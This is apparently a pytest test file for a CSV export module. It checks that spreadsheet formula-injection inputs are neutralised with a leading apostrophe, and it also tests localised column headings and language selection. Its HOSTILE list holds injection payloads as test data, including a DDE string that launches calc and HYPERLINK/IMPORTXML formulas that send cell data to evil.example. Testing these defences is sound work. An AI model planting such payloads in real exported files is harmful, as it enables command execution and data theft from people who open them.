"""A table as CSV: what goes in comes out again, and no cell is a formula to a spreadsheet."""

import csv
import io

import pytest

from edge.domain.csv_file import line
from edge.domain.headings import HEADINGS, heading, language_of, readable

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", "+49 30 1234", "-2+3", "-5", "@SUM(A1:A9)", "\t=1", "\r=1", "|calc", "%0A",
    " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", " \u200b =1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20x", "\u22121",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=IMPORTXML("http://evil.example","//a")', "-", "=",
)  # fmt: skip
HARMLESS = (
    "",
    "Roof",
    "1=1",
    "a-b",
    "Smith, Jones & Co",
    'say "hi"',
    "two\nlines",
    "100 %",
    "München",
    "日本",
    "'quoted",
    "a;=1",
)


def read_back(text: str) -> list[str]:
    [row] = csv.reader(io.StringIO(text, newline=""), strict=True)
    return row


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a_text_that_a_spreadsheet_would_compute_is_only_shown(text: str) -> None:
    assert read_back(line([text], ["string"])) == ["'" + text]
    assert read_back(line([text], ["text"]))[0][0] == "'"


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_any_other_text_comes_out_as_it_went_in(text: str) -> None:
    written = line([text, "x"], ["string", "string"])
    assert read_back(written) == [text, "x"]
    assert written.startswith('"'), "quoted, so that nothing parts it where semicolons part columns"


def test_numbers_of_number_fields_are_numbers_and_only_those() -> None:
    assert line(["-5.00", "12", 17, "121.00"], ["money", "number", "number", "string"]) == '-5.00,12,17,"121.00"\r\n'
    for text in ("=1", "-1+1", "1e5", "-", "NaN", "-cmd", "1\n=2", "٣"):
        assert line([text], ["number"]).startswith('"'), text


def test_nothing_true_and_false_have_cells_of_their_own() -> None:
    assert line([None, True, False, ""], ["string", "boolean", "boolean", "string"]) == ',"true","false",""\r\n'


def test_every_heading_is_in_every_language_and_the_tenants_own_goes_before() -> None:
    assert all(all(texts) and len(texts) == 4 for texts in HEADINGS.values())
    assert [heading("due_on", None, language) for language in ("en", "de")] == ["Due", "Fällig"]
    assert heading("fields.project", {"en": "Project", "de": "Projekt"}, "de") == "Projekt"
    assert heading("fields.project", {"de": "Projekt"}, "pt") == "Projekt"
    assert heading("fields.project", None, "pt") == "fields.project"


def test_a_name_without_a_word_is_made_readable_for_people() -> None:
    names = {"fields.site_code": "Site code", "fields.siteCode": "Site code", "in_progress": "In progress", "_": "_"}
    assert {name: readable(name, None, "de") for name in names} == names
    assert readable("lines.quantity", None, "pt") == "Quantidade"
    assert readable("lines.quantity", {"pt": "Qtd."}, "pt") == "Qtd."


def test_the_reader_chooses_the_language() -> None:
    wishes = {"": "en", "fr": "en", "de-AT,de;q=0.9": "de", "fr,pt-BR;q=0.5": "pt", "ES": "es", "*": "en"}
    assert {wish: language_of(wish) for wish in wishes} == wishes
